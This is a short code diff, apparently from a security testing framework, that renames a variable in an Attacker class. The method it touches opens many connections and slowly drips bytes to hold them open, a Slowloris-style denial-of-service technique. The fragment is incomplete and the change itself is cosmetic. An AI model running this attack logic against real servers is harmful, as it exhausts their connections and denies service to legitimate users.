@@ -30,14 +30,14 @@ class Attacker(Attack):
         await asyncio.gather(*(self._drip(target, HEAD if n < HEADS else BODY) for n in range(HEADS + BODIES)))
 
     async def _drip(self, target: Target, begun: bytes) -> None:
-        line = await Bare.to(target)
+        connection = await Bare.to(target)
         self.standing += 1
-        line.writer.write(begun)
+        connection.writer.write(begun)
         for _ in range(int(LONGEST)):
             try:
-                line.writer.write(b"a")
-                await line.writer.drain()
-                if await asyncio.wait_for(line.reader.read(1000), 1) == b"":
+                connection.writer.write(b"a")
+                await connection.writer.drain()
+                if await asyncio.wait_for(connection.reader.read(1000), 1) == b"":
                     break
             except TimeoutError:
                 continue
@@ -45,7 +45,7 @@ class Attacker(Attack):
                 break
         self.standing -= 1
         self.outcomes["cut"] += 1
-        line.drop()
+        connection.drop()
 
     async def found(self, target: Target) -> Json:
         for _ in range(int(PATIENCE)):
